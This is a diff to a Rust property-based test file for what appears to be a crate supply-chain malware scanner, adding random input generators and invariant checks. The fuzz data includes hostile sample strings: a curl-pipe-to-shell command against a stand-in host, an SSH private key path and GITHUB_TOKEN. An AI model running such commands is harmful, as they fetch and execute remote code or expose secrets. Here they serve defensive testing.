@@ -1,14 +1,18 @@
 //! All rules over inputs that no rule was written for: no panic, and every answer keeps the promises of the model.
 
 use cratekeeper_model::facts::{
-    CharacterClass, CharacterContext, FileEntry, FileKind, ManifestDifference, RefusedEntry, SourceFile,
-    SourceFileStatus, SuspiciousCharacter, Target, TargetKind, UnsafeCounters,
+    AssemblySite, Capability, CharacterClass, CharacterContext, ConstantText, Decoding, ExternalCall,
+    FileEntry, FileKind, Flow, FlowFacts, FlowSource, FlowStep, Gate, GateKind, Include, IncludeKind,
+    ManifestDifference, Operation, OperationKind, Phase, Quality, RefusedEntry, SourceFile, SourceFileStatus,
+    SuspiciousCharacter, Target, TargetKind, Topic, UnsafeCounters,
 };
 use cratekeeper_model::{
-    Advisory, AdvisoryClass, ArchiveState, Case, Checksum, Facts, Finding, IndexEntry, Known, Level,
-    NameMatch, NameMatches, Package, PackageId, PackageSource, RuleInput, Severity,
+    Advisory, AdvisoryClass, ArchiveState, Case, Change, ChangeDirection, ChangeKind, Checksum,
+    DependencyHistory, Difference, Evidence, Facts, Finding, History, IndexEntry, Known, Level, NameMatch,
+    NameMatches, Package, PackageId, PackageSource, Previous, PublishMethod, PublishedVersion,
+    PublisherHistory, RegistryAction, RegistryEvent, RuleInput, Severity, SimilarCrate,
 };
-use cratekeeper_rules::{Evaluation, TECHNIQUES, all, judge, score};
+use cratekeeper_rules::{Evaluation, Family, TECHNIQUES, all, judge, judge_without, score};
 use proptest::prelude::*;
 use proptest::sample::select;
 use semver::Version;
@@ -35,15 +39,17 @@ fn checksum() -> impl Strategy<Value = Checksum> {
     (0..3_u8).prop_map(|byte| Checksum::of(&[byte]))
 }
 
-fn known<T: std::fmt::Debug>(value: impl Strategy<Value = T>) -> impl Strategy<Value = Known<T>> {
-    (any::<bool>(), value, text()).prop_map(|(is_known, value, reason)| match is_known {
+fn known<T: std::fmt::Debug + 'static>(value: impl Strategy<Value = T> + 'static) -> BoxedStrategy<Known<T>> {
+    let known = (any::<bool>(), value, text()).prop_map(|(is_known, value, reason)| match is_known {
         true => Known::Known(value),
         false => Known::Unknown(reason),
-    })
+    });
+    known.boxed()
 }
 
-fn few<T: std::fmt::Debug>(value: impl Strategy<Value = T>) -> impl Strategy<Value = Vec<T>> {
-    prop::collection::vec(value, 0..15)
+/// Boxed, because inputs of so many parts would not fit on a test's stack.
+fn few<T: std::fmt::Debug + 'static>(value: impl Strategy<Value = T> + 'static) -> BoxedStrategy<Vec<T>> {
+    prop::collection::vec(value, 0..15).boxed()
 }
 
 fn source() -> impl Strategy<Value = PackageSource> {
@@ -97,6 +103,10 @@ fn index() -> impl Strategy<Value = IndexEntry> {
             age: u64::MAX,
         },
     )
+}
+
+fn unknown<T>() -> Known<T> {
+    Known::Unknown("not looked for".to_owned())
 }
 
 fn advisory() -> impl Strategy<Value = Advisory> {
@@ -194,18 +204,241 @@ fn difference() -> impl Strategy<Value = ManifestDifference> {
         .prop_map(|(field, published, original)| ManifestDifference { field, published, original })
 }
 
+/// Numbers that lead somewhere, and some that lead nowhere.
+fn number() -> impl Strategy<Value = u32> {
+    prop_oneof![6 => 0_u32..6, 1 => any::<u32>()]
+}
+
+/// Text that operations get.
+fn argument() -> impl Strategy<Value = String> {
+    let words = [
+        "{}",
+        "curl",
+        "/bin/sh",
+        "-c",
+        "curl http://a.example.invalid/i | sh",
+        "https://a.example.invalid/{}",
+        "127.0.0.1:9",
+        "{}/.ssh/id_rsa",
+        "HOME",
+        "GITHUB_TOKEN",
+        "/tmp/.x",
+        "git",
+        "cargo publish",
+        "é://[",
+        "http://",
+        "a.b.c:",
+        "",
+    ];
+    prop_oneof![3 => select(words.to_vec()).prop_map(str::to_owned), 1 => text()]
+}
+
+fn operation() -> impl Strategy<Value = Operation> {
+    use OperationKind::*;
+    let kinds = [
+        ReadFile,
+        ReadDirectory,
+        WriteFile,
+        SetPermissions,
+        DeleteFile,
+        Connect,
+        Listen,
+        ResolveName,
+        DisableTlsChecks,
+        StartProcess,
+        ReadVariable,
+        ListVariables,
+        HostInformation,
+        LoadLibrary,
+        Interpret,
+        SystemCall,
+        Assembly,
+        ExecutableMemory,
+        CallData,
+        BeforeMain,
+        Sleep,
+        ReadClock,
+        Decode,
+        Encode,
+        Pattern,
+        UserInterface,
+        SystemRegistry,
+        CargoDirective,
+    ];
+    let phases = [Phase::BuildTime, Phase::BeforeMain, Phase::RunTime, Phase::Test, Phase::Unreached];
+    let qualities = [
+        Quality::ErrorsIgnored,
+        Quality::Silent,
+        Quality::Detached,
+        Quality::ThroughShell,
+        Quality::InMacro,
+        Quality::HiddenArgument,
+        Quality::InsidePackage,
+        Quality::OnThread,
+        Quality::Executable,
+        Quality::Verified,
+    ];
+    let place = (number(), any::<u32>(), prop::option::of(number()));
+    let lists = (few(argument()), few(select(qualities.to_vec())), few(number()), few(number()));
+    (select(kinds.to_vec()), text(), place, lists, few(select(phases.to_vec()))).prop_map(
+        |(kind, path, (file, line, function), (arguments, qualities, gates, chain), phases)| Operation {
+            kind,
+            path,
+            file,
+            line,
+            function,
+            arguments,
+            qualities,
+            gates,
+            phases,
+            chain,
+        },
+    )
+}
+
+fn decodings() -> impl Strategy<Value = Vec<Decoding>> {
+    use Decoding::*;
+    few(select(vec![Joined, Reversed, Base64, Hex, Xor, Rotated, Numbers, Replaced, Evaluated]))
+}
+
+fn constant_text() -> impl Strategy<Value = ConstantText> {
+    use Topic::*;
+    let topics = [
+        Url,
+        IpAddress,
+        Host,
+        SecretFile,
+        WalletFile,
+        SecretVariable,
+        BuildServiceVariable,
+        StartupPlace,
+        Downloader,
+        Shell,
+        AnalysisTool,
+        DropService,
+        SecretPattern,
+        PublishCommand,
+        UserSource,
+        SharedPlace,
+        AssistantInstruction,
+        HiddenPlace,
+        HighEntropy,
+    ];
+    let place = (number(), any::<u32>(), prop::option::of(number()), prop::option::of(number()));
+    (argument(), decodings(), few(select(topics.to_vec())), place).prop_map(
+        |(value, decodings, topics, (file, line, function, operation))| ConstantText {
+            value,
+            decodings,
+            topics,
+            file,
+            line,
+            function,
+            operation,
+        },
+    )
+}
+
+fn gate() -> impl Strategy<Value = Gate> {
+    use GateKind::*;
+    let kinds = [
+        BuildService,
+        Variable,
+        Time,
+        Host,
+        AnalysisTool,
+        OptionalFeature,
+        DefaultFeature,
+        Target,
+        Test,
+        Profile,
+        Chance,
+        FileExists,
+    ];
+    (select(kinds.to_vec()), text(), number(), any::<u32>(), prop::option::of(number()))
+        .prop_map(|(kind, text, file, line, function)| Gate { kind, text, file, line, function })
+}
+
+fn flow() -> impl Strategy<Value = Flow> {
+    use FlowSource::*;
+    let sources = [
+        SecretVariable,
+        Variable,
+        AllVariables,
+        SecretFile,
+        UserSource,
+        File,
+        HostInformation,
+        Network,
+        ProcessOutput,
+        HiddenConstant,
+        EmbeddedFile,
+    ];
+    let step = (number(), any::<u32>(), prop::option::of(number()))
+        .prop_map(|(file, line, function)| FlowStep { file, line, function });
+    (select(sources.to_vec()), prop::option::of(number()), number(), decodings(), few(step)).prop_map(
+        |(source, from, into, transformations, steps)| Flow { source, from, into, transformations, steps },
+    )
+}
+
+fn behaviour() -> impl Strategy<Value = FlowFacts> {
+    let call = (text(), number(), any::<u32>(), prop::option::of(number())).prop_map(
+        |(path, file, line, function)| ExternalCall {
+            path,
+            file,
+            line,
+            function,
+            phases: vec![Phase::BuildTime],
+        },
+    );
+    (few(operation()), few(constant_text()), few(gate()), few(flow()), few(call), few(text())).prop_map(
+        |(operations, texts, gates, flows, external_calls, problems)| FlowFacts {
+            operations,
+            texts,
+            gates,
+            flows,
+            external_calls,
+            problems,
+        },
+    )
+}
+
+fn assembly() -> impl Strategy<Value = AssemblySite> {
+    (number(), any::<u32>(), text()).prop_map(|(file, line, text)| AssemblySite {
+        file,
+        line,
+        r#macro: "asm".to_owned(),
+        function: None,
+        text: text + " syscall",
+        mentions: vec!["syscall".to_owned()],
+    })
+}
+
+fn include() -> impl Strategy<Value = Include> {
+    let kind = select(vec![IncludeKind::Env, IncludeKind::IncludeBytes, IncludeKind::OptionEnv]);
+    (number(), any::<u32>(), kind, argument()).prop_map(|(file, line, kind, argument)| Include {
+        file,
+        line,
+        kind,
+        argument,
+        literal: true,
+    })
+}
+
 fn facts() -> impl Strategy<Value = Facts> {
     (
         (few(file()), few(refusal()), few(character()), any::<u64>(), any::<u64>()),
         (few(rust_file()), few(target()), few(difference())),
+        (behaviour(), few(assembly()), few(include())),
     )
-        .prop_map(|(files, source)| {
+        .prop_map(|(files, source, behaviour)| {
             let mut facts = Facts::default();
             (facts.files.entries, facts.files.refused, facts.files.characters, ..) = files;
             (.., facts.files.characters_total, facts.files.compressed_size) = (files.3, files.4);
             (facts.source.rust_files, facts.manifest.targets, facts.manifest.differences) = source;
+            (facts.flow, facts.source.assembly, facts.source.includes) = behaviour;
             facts
         })
+        .boxed()
 }
 
 fn names() -> impl Strategy<Value = NameMatches> {
@@ -220,11 +453,182 @@ fn names() -> impl Strategy<Value = NameMatches> {
     })
 }
 
-fn input() -> impl Strategy<Value = RuleInput> {
-    let known = (known(facts()), known(index()), known(few(advisory())), known(names()));
-    (package(), archive(), known).prop_map(|(package, archive, (facts, index, advisories, names))| {
-        RuleInput { package, archive, facts, index, advisories, names }
+fn place() -> impl Strategy<Value = Evidence> {
+    (text(), any::<u32>(), prop::option::of(text())).prop_map(|(file, line, excerpt)| Evidence {
+        file,
+        line: Some(line),
+        excerpt,
     })
+}
+
+fn change() -> impl Strategy<Value = Change> {
+    use ChangeKind::*;
+    let kinds = [
+        BuildScript,
+        ProcMacro,
+        Capability,
+        Dependency,
+        BuildDependency,
+        Binary,
+        HiddenFile,
+        Unsafe,
+        Ffi,
+        Repository,
+        Authors,
+        Manifest,
+        Feature,
+        CodeVolume,
+        ConstantText,
+    ];
+    let direction = select(vec![ChangeDirection::Added, ChangeDirection::Removed, ChangeDirection::Changed]);
+    let capability = select(&self::Capability::ALL[..]);
+    let phase = select(vec![Phase::BuildTime, Phase::RunTime, Phase::Test]);
+    let texts = (text(), prop::option::of(text()), prop::option::of(text()));
+    (select(kinds.to_vec()), direction, texts, prop::option::of((capability, phase)), few(place())).prop_map(
+        |(kind, direction, (subject, before, after), capability, evidence)| Change {
+            kind,
+            direction,
+            subject,
+            before,
+            after,
+            capability,
+            evidence,
+        },
+    )
+}
+
+fn previous() -> impl Strategy<Value = Previous> {
+    (version(), few(change()), any::<(u64, u64)>(), any::<(u32, u32, u32)>()).prop_map(
+        |(version, changes, rust_lines, files)| Previous {
+            version,
+            difference: Difference { changes, rust_lines, files, left_out: rust_lines.0 },
+        },
+    )
+}
+
+/// Moments around each other, and the ends of time.
+fn moment() -> impl Strategy<Value = i64> {
+    prop_oneof![4 => 0_i64..100_000_000, 1 => any::<i64>()]
+}
+
+fn published() -> impl Strategy<Value = PublishedVersion> {
+    let method = select(vec![PublishMethod::Token, PublishMethod::TrustedPublishing]);
+    let known = (known(moment()), known(text()), known(method), known(few(text())));
+    (version(), known, any::<bool>()).prop_map(
+        |(version, (published, publisher, method, dependencies), yanked)| PublishedVersion {
+            version,
+            published,
+            publisher,
+            method,
+            yanked,
+            dependencies,
+        },
+    )
+}
+
+fn event() -> impl Strategy<Value = RegistryEvent> {
+    let action = prop_oneof![
+        version().prop_map(RegistryAction::Yank),
+        version().prop_map(RegistryAction::Unyank),
+        text().prop_map(RegistryAction::OwnerAdded),
+        text().prop_map(RegistryAction::OwnerRemoved),
+    ];
+    (moment(), known(text()), action).prop_map(|(at, by, action)| RegistryEvent { at, by, action })
+}
+
+fn dependency_history() -> impl Strategy<Value = DependencyHistory> {
+    let known =
+        (known(moment()), known(moment()), known(few(text())), known(any::<u64>()), known(any::<u8>()));
+    (text(), few(text()), known, prop::option::of(any::<bool>())).prop_map(
+        |(name, through, known, in_previous)| {
+            let (first_published, version_published, owners, downloads, score) = known;
+            DependencyHistory {
+                name,
+                through,
+                first_published,
+                version_published,
+                owners,
+                downloads,
+                in_previous,
+                score,
+            }
+        },
+    )
+}
+
+fn publisher_history() -> impl Strategy<Value = PublisherHistory> {
+    let crates = few((text(), moment()));
+    (text(), prop::option::of(moment()), crates, few((text(), text())), few(text())).prop_map(
+        |(login, first_seen, crates, near_names, look_alikes)| PublisherHistory {
+            login,
+            first_seen,
+            crates,
+            near_names,
+            look_alikes,
+        },
+    )
+}
+
+fn history() -> impl Strategy<Value = History> {
+    let known = (
+        known(few(event())),
+        known(few(text())),
+        known(any::<u64>()),
+        known(prop::option::of(text())),
+        known(publisher_history()),
+    );
+    (moment(), few(published()), known, few(dependency_history())).prop_map(
+        |(at, versions, (events, owners, downloads, earlier_owner, publisher), dependencies)| History {
+            at,
+            versions,
+            events,
+            owners,
+            downloads,
+            earlier_owner,
+            dependencies,
+            publisher,
+        },
+    )
+}
+
+fn similar() -> impl Strategy<Value = SimilarCrate> {
+    let shares = any::<(Option<u8>, Option<u8>, Option<u8>)>();
+    let same = any::<(bool, Option<bool>, Option<bool>)>();
+    (text(), text(), shares, same, few(place())).prop_map(|(name, version, shares, same, differing)| {
+        SimilarCrate {
+            name,
+            version,
+            source: shares.0,
+            readme: shares.1,
+            description: shares.2,
+            same_repository: same.0,
+            same_owner: same.1,
+            other_is_older: same.2,
+            differing,
+            structure: shares.0,
+            same_author: same.1,
+            shared_functions: (0, 9),
+        }
+    })
+}
+
+fn input() -> impl Strategy<Value = RuleInput> {
+    let now = (known(facts()), known(index()), known(few(advisory())), known(names()));
+    let past = (known(previous()), known(history()), known(few(similar())));
+    (package(), archive(), now, past).prop_map(
+        |(package, archive, (facts, index, advisories, names), (previous, history, similar))| RuleInput {
+            package,
+            archive,
+            facts,
+            index,
+            advisories,
+            names,
+            previous,
+            history,
+            similar,
+            reach: unknown(),
+        },
+    )
 }
 
 /// Characters that may not reach a terminal; own list, so that the escaping is not tested by itself.
@@ -253,15 +657,35 @@ fn check(case: &Case) {
     assert!(case.not_evaluated.iter().all(|it| !it.reason.contains(is_hidden)));
     assert!(case.findings.is_sorted_by_key(|it| std::cmp::Reverse((it.severity, it.confidence))));
     assert!(case.techniques.is_sorted());
-    assert!(case.techniques.iter().all(|id| TECHNIQUES.iter().any(|it| it.id == id)));
+    assert!(case.techniques.iter().all(|number| TECHNIQUES.iter().any(|it| it.number == *number)));
     assert_eq!(case.score, score(&case.findings));
+    let sum: u32 = case.contributions.iter().map(|it| u32::from(it.points)).sum();
+    assert_eq!(sum, u32::from(case.score), "contributions add up to the score: {:?}", case.contributions);
+    assert!(case.contributions.is_sorted_by_key(|it| std::cmp::Reverse(it.points)));
+    assert_eq!(case.harmless_if.is_some(), case.level >= Level::Review);
+    assert!(case.chain.len() <= 20 && case.chain.is_sorted_by_key(|step| step.kind));
+    for step in &case.chain {
+        assert!(!step.text.contains(is_hidden), "{:?}", step.text);
+        assert!(!step.text.contains("http://") && !step.text.contains("https://"), "{:?}", step.text);
+    }
     assert_eq!(case.level == Level::None, case.findings.is_empty());
 }
 
 proptest! {
+    // Inputs have many parts: a hundred take as long as a thousand of another test.
+    #![proptest_config(ProptestConfig::with_cases(100))]
+
     #[test]
     fn every_answer_keeps_its_promises(input in input()) {
         check(&judge(&input));
+    }
+
+    #[test]
+    fn without_a_family_its_findings_are_missing(input in input(), family in select(&Family::ALL[..])) {
+        let case = judge_without(&[family], &input);
+        check(&case);
+        let of = |finding: &Finding| cratekeeper_rules::find(&finding.rule).expect("a finding names its rule").family;
+        prop_assert!(case.findings.iter().all(|finding| of(finding) != family));
     }
 
     #[test]
@@ -289,6 +713,13 @@ fn empty() -> RuleInput {
         index: Known::Unknown("offline".to_owned()),
         advisories: Known::Known(Vec::new()),
         names: Known::Known(NameMatches::default()),
+        previous: Known::Known(Previous {
+            version: Version::new(0, 0, 0),
+            difference: Difference::default(),
+        }),
+        history: unknown(),
+        similar: Known::Known(Vec::new()),
+        reach: unknown(),
     }
 }
 
@@ -299,6 +730,8 @@ fn when_nothing_is_known_no_rule_is_silent() {
         facts: Known::Unknown("offline".to_owned()),
         advisories: Known::Unknown("no database".to_owned()),
         names: Known::Unknown("it is too long".to_owned()),
+        previous: unknown(),
+        similar: unknown(),
         ..empty()
     };
     for rule in all() {
@@ -314,6 +747,11 @@ fn when_nothing_is_known_no_rule_is_silent() {
 fn an_empty_package_has_no_findings() {
     let case = judge(&empty());
     assert!(case.findings.is_empty());
-    let missing: Vec<&str> = case.not_evaluated.iter().map(|it| it.rule.as_str()).collect();
-    assert_eq!(missing, ["checksum-mismatch", "yanked-version"]);
+    let of_one_version = |id: &str| {
+        let family = cratekeeper_rules::find(id).map(|rule| rule.family);
+        !matches!(family, Some(Family::History | Family::Difference | Family::Similarity))
+    };
+    let missing = case.not_evaluated.iter().map(|it| it.rule.as_str());
+    let missing: Vec<&str> = missing.filter(|id| of_one_version(id)).collect();
+    assert_eq!(missing, ["checksum-mismatch"]);
 }
